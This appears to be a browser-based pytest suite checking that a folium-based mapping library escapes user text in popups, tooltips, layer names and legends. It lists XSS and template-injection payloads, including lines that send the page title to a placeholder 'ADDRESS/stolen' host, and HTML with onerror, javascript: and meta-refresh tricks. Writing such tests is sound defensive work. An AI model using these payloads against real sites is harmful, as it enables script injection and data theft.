"""Text in her own layers, in a real browser: it is what it was, nothing runs, nothing leaves."""

import html
import random

import folium
import geopandas as gpd
import hostile
import pytest
import shapely

import atlas
from tests.patience import rest

pytestmark = pytest.mark.browser

_LETTERS = (*"\\${}`'\"<>/();\n\r\u2028 aé", "hit()")
INNOCENT = (
    "C:\\users\\new",
    "the so-called `Qassam` rocket",
    "${x}",
    "أطلق صاروخ `قسّام`",
    "🚀 \\🚀`",
    "half \ud83d a pair",
    "a\0b",
    "one\u2028two\u2029three",
    "</script> <!-- ]]> {{ x }} {% raw %} {# x #}",
    "\\u{110000} \\x \\0 \\",
    "ends in \\`",
    "",
    " ",
)
# Each was run, or sent the briefing away, where text stood between backticks.
ATTACKS = (
    "\\${hit()}",
    "\\\\`)[0];hit();//`",
    "\\`);hit();(`",
    "x`);hit();(`y",
    "${hit()}",
    "\\\\${hit()}",
    "`+hit()+`",
    "`]);hit();([`",
    "\\u0060);hit();//",
    '");hit();("',
    "');hit();('",
    "\n*/hit();/*",
    "//`;hit()\nhit();",
    "</script><script>hit()</script>",
    "<!--<script>",
    "'}}\"{{hit()}}",
    "${location='ADDRESS/stolen?'+document.title}",
    "\\${location='ADDRESS/stolen?'+document.title}",
    "x`);location='ADDRESS/stolen';(`",
)


def _random_texts(seed, many):
    """Return texts made of what ends a literal, the same ones each time."""
    choose = random.Random(seed)
    return tuple(
        "".join(choose.choice(_LETTERS) for _ in range(choose.randint(1, 12))) for _ in range(many)
    )


class _Popup(folium.Popup):
    """A popup of a user's own class."""


class _Tooltip(folium.Tooltip):
    """A tooltip of a user's own class, whose text is no attribute."""

    text = property(lambda self: self.said, lambda self, text: setattr(self, "said", text))


TEXTS = (*hostile.ALL, *INNOCENT, *ATTACKS, *_random_texts(10, 200))

_CLICK = {"originalEvent": {"pointerType": "mouse"}, "containerPoint": {"x": 1, "y": 1}}
_READ = """() => {
    const units = (text) => Array.from({ length: text.length }, (_, at) => text.charCodeAt(at));
    const box = document.createElement("div");
    const read = {};
    window.atlas.map.eachLayer((layer) => {
        if (layer.options.mark === undefined) return;
        if (layer.options.lazy) layer.fire("click", { latlng: layer.getLatLng() });
        box.innerHTML = layer.getTooltip().getContent();
        const texts = [layer.getPopup().getContent().textContent, box.textContent];
        read[layer.options.mark] = texts.map(units);
    });
    return read;
}"""


def _shown(text):
    """Return what a browser shows of a text: the text, as far as HTML can hold it."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "")
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "surrogatepass")


def _heard(units):
    """Return the text of units of UTF-16."""
    data = b"".join(unit.to_bytes(2, "little") for unit in units)
    return data.decode("utf-16-le", "surrogatepass")


def _quiet(opened, path, asked=()):
    """Check that nothing ran, nothing was asked for, and the page is still the page."""
    assert opened.hits() == 0
    assert opened.dialogs == opened.requests == opened.errors == list(asked) == []
    assert opened.page.url.partition("#")[0] == path.as_uri()


@pytest.mark.parametrize(("popup", "tooltip"), [(folium.Popup, folium.Tooltip), (_Popup, _Tooltip)])
def test_what_is_shown_is_the_text(open_page, tmp_path, popup, tooltip):
    """For any string, the popup and the tooltip say it, and the layers after it are drawn."""
    m = atlas.draw_map(hostile.record(["x"]))
    for number, text in enumerate(TEXTS):
        folium.Marker(
            [33, 35],
            mark=number,
            lazy=number % 3 == 0,
            popup=popup(text, parse_html=True, lazy=number % 3 == 0),
            tooltip=tooltip(html.escape(text)),
        ).add_to(m)
        folium.CircleMarker([33, 35], color="#123456").add_to(m)
    m.save(tmp_path / "m.html")
    opened = open_page(tmp_path / "m.html")
    opened.ready()
    read = opened.page.evaluate(_READ)
    for number, text in enumerate(TEXTS):
        said, tip = (_heard(units) for units in read[str(number)])
        assert said == _shown(text)
        assert tip.strip() == _shown(text).strip()
    assert opened.page.locator("path[stroke='#123456']").count() == len(TEXTS)
    _quiet(opened, tmp_path / "m.html")


def test_names_of_layers_are_the_text(open_page, tmp_path):
    """A group is called in the list of layers what its author called it."""
    names = sorted({text for text in (*ATTACKS, *INNOCENT, *_random_texts(11, 60)) if text.strip()})
    for control in (False, True):
        m = atlas.draw_map(hostile.record(["x"]))
        for name in names:
            folium.Marker([33, 35]).add_to(folium.FeatureGroup(name).add_to(m))
        if control:
            folium.LayerControl().add_to(m)
        path = tmp_path / f"{control}.html"
        m.save(path)
        opened = open_page(path)
        opened.ready()
        opened.page.get_by_role("button", name="Layers").click()
        shown = opened.page.locator("bdi").evaluate_all("all => all.map((one) => one.textContent)")
        assert {_clean(name) for name in names} <= {_clean(text) for text in shown}
        _quiet(opened, path)


def _clean(text):
    """Return a text as the driver can hand it over: it has no half pairs."""
    return text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")


def test_fields_and_aliases_are_the_text(open_page, tmp_path):
    """Aliases and values of GeoJSON show themselves, and names of columns are names."""
    texts = (*ATTACKS, *INNOCENT, *_random_texts(12, 60))
    m = atlas.draw_map(hostile.record(["x"]))
    for number, text in enumerate(texts):
        spot = {"type": "Point", "coordinates": [35, 33]}
        properties = {text: number, "value": html.escape(text)}
        feature = {"type": "Feature", "geometry": spot, "properties": properties}
        folium.GeoJson(
            {"type": "FeatureCollection", "features": [feature]},
            style_function=lambda _, text=text: {"color": text, "radius": 3},
            highlight_function=lambda _, text=text: {"color": text},
            marker=folium.CircleMarker(mark=number) if number % 2 else None,
            tooltip=folium.GeoJsonTooltip(["value"], aliases=[html.escape(text)]),
            popup=folium.GeoJsonPopup(["value", text], aliases=[html.escape(text), "n"]),
        ).add_to(m)
    m.save(tmp_path / "m.html")
    opened = open_page(tmp_path / "m.html")
    opened.ready()
    cells = opened.page.evaluate(
        """() => {
            const said = [];
            window.atlas.map.eachLayer((group) => {
                const shown = [group.getTooltip?.(), group.getPopup?.()];
                if (!group.eachLayer || !shown[0]) return;
                group.eachLayer((layer) => said.push(shown.map((one) => Array.from(
                    one._content(layer).querySelectorAll("th, td"), (cell) => cell.textContent))));
            });
            return said;
        }"""
    )
    assert len(cells) == len(texts)
    for (tip, popup), text in zip(cells, texts, strict=True):
        says = _clean(_shown(text)).strip()
        assert [_clean(cell).strip() for cell in tip] == [says, says]
        assert [_clean(cell).strip() for cell in popup[:2]] == [says, says]
    _quiet(opened, tmp_path / "m.html")


def _add_everywhere(m, text):
    """Add layers that have a text in each place that a layer has for one."""
    for popup, tooltip in ((folium.Popup, folium.Tooltip), (_Popup, _Tooltip)):
        for lazy in (False, True):
            given = popup(text, lazy=lazy, max_width=text)
            marker = folium.Marker([33, 35], popup=given, tooltip=tooltip(text, style=text))
            marker.add_to(folium.FeatureGroup(text).add_to(m))
    frame = folium.IFrame(text, width=200, height=100)
    for inner in (folium.Html(text, script=True), folium.Element(f"<p>{text}"), frame):
        folium.Marker([33, 35], popup=folium.Popup(inner)).add_to(m)
    folium.Marker([33, 35], icon=folium.DivIcon(html=text), title=text, alt=text).add_to(m)
    folium.Marker([33, 35], icon=folium.Icon(icon=text, prefix=text, icon_color=text)).add_to(m)
    folium.Marker([33, 35], **{text: text}).add_to(m)
    folium.PolyLine([[33, 35], [34, 36]], color=text, popup=text, tooltip=text).add_to(m)
    folium.ClickForMarker(text).add_to(m)


@pytest.mark.parametrize("leads_away", [False, True])
def test_no_text_of_any_layer_runs_or_leads_away(open_page, tmp_path, listener, leads_away):
    """With a server that waits, pages with each attack in each place: nothing arrives."""
    address, asked = listener
    m = atlas.draw_map(hostile.record(["x"]))
    for text in ATTACKS:
        if ("ADDRESS" in text) == leads_away:
            _add_everywhere(m, text.replace("ADDRESS", address))
    folium.LayerControl().add_to(m)
    m.save(tmp_path / "m.html")
    opened = open_page(tmp_path / "m.html", offline=False)
    opened.ready()
    opened.page.evaluate(
        """async (event) => {
            const all = [];
            window.atlas.map.eachLayer((layer) => all.push(layer));
            for (const layer of all) {
                if (layer.getPopup?.()) layer.fire("click", { ...event, latlng: [33, 35] });
                if (layer.getTooltip?.()) layer.openTooltip();
            }
            window.atlas.map.fire("click", { ...event, latlng: L.latLng(33, 35) });
            await new Promise((done) => setTimeout(done, 100));
            window.atlas.map.closePopup();
            await new Promise((done) => setTimeout(done, 400));
        }""",
        _CLICK,
    )
    _quiet(opened, tmp_path / "m.html", asked)


def test_markup_of_her_popups_is_shown_and_does_nothing(open_page, tmp_path, listener):
    """Her own HTML looks as she wrote it; what in it would run, load or lead away does not."""
    address, asked = listener
    m = atlas.draw_map(hostile.record(["x"]))
    markup = f"""<b>bold</b><pre>one\n two</pre><img src="{address}/i" onerror="hit()">
        <script>hit()</script><svg onload="hit()"></svg><iframe src="{address}/f"></iframe>
        <meta http-equiv="refresh" content="0;url={address}/m"><base href="{address}/">
        <form action="{address}/a"><button id="send">x</button></form>
        <a id="go" href="javascript:hit()">y</a>"""
    folium.Marker([33, 35], popup=folium.Popup(markup, show=True)).add_to(m)
    m.save(tmp_path / "m.html")
    opened = open_page(tmp_path / "m.html", offline=False)
    opened.ready()
    box = opened.page.locator(".leaflet-popup-content")
    assert box.locator("b").inner_text() == "bold"
    assert box.locator("pre").inner_text() == "one\n two"
    opened.page.evaluate("() => { go.click(); send.click(); }")
    rest(opened.page, 200)
    assert opened.hits() == 0
    assert asked == []
    assert opened.page.url.partition("#")[0] == (tmp_path / "m.html").as_uri()


def test_clicking_marks_a_spot_with_her_words(open_page, tmp_path):
    """Where she asked for the place that was clicked, it stands in her own text."""
    m = atlas.draw_map(hostile.record(["x"]))
    folium.ClickForMarker("at `${lat}` \\`\\ ${lng} ${hit()}").add_to(m)
    m.save(tmp_path / "m.html")
    opened = open_page(tmp_path / "m.html")
    opened.ready()
    said = opened.page.evaluate(
        """(event) => {
            let found;
            window.atlas.map.on("layeradd", ({ layer }) => { found ??= layer; });
            window.atlas.map.fire("click", { ...event, latlng: L.latLng(33, 35) });
            return found.getPopup().getContent();
        }""",
        _CLICK,
    )
    assert said == "at `33.0000` \\`\\ 35.0000 ${hit()}"
    _quiet(opened, tmp_path / "m.html")


@pytest.mark.parametrize("legend", [None, "kinds `);hit();(` ${hit()} <b>"])
def test_a_frame_that_is_explored_shows_its_words(open_page, tmp_path, legend):
    """Names of columns, values, the words of a legend and the colours of rows run nothing."""
    # A frame holds no half pairs, and geopandas makes no legend of a statement of Jinja.
    texts = [text for text in (*ATTACKS, *INNOCENT) if text.strip() and text == _clean(text)]
    texts = [text for text in texts if not (legend and "{%" in text)]
    name = legend or "value"
    frame = gpd.GeoDataFrame(
        {name: [html.escape(text) for text in texts], "`+hit()+`": range(len(texts))},
        geometry=[shapely.Point(35, 33)] * len(texts),
        crs="EPSG:4326",
    )
    m = atlas.draw_map(hostile.record(["x"]))
    frame.explore(legend, m=m, popup=True, name=ATTACKS[0], categorical=bool(legend))
    folium.CircleMarker([33, 35], color="#123456").add_to(m)
    m.save(tmp_path / "m.html")
    opened = open_page(tmp_path / "m.html")
    opened.ready()
    said = opened.page.evaluate(
        """() => {
            const said = [];
            window.atlas.map.eachLayer((group) => {
                if (!group.eachLayer || !group.getTooltip?.()) return;
                const box = (layer) => group.getTooltip()._content(layer);
                group.eachLayer((layer) => said.push(
                    Array.from(box(layer).querySelectorAll("td"), (cell) => cell.textContent)));
            });
            return said;
        }"""
    )
    assert [row[0].strip() for row in said] == [_shown(text).strip() for text in texts]
    assert [row[1] for row in said] == [str(number) for number in range(len(texts))]
    if legend:
        assert opened.page.locator(".legend-title").inner_text() == legend
        labels = opened.page.locator(".legend-labels li").evaluate_all(
            "all => all.map((one) => one.textContent)"
        )
        assert len(labels) == len(texts)
    assert opened.page.locator("path[stroke='#123456']").count() == 1
    _quiet(opened, tmp_path / "m.html")
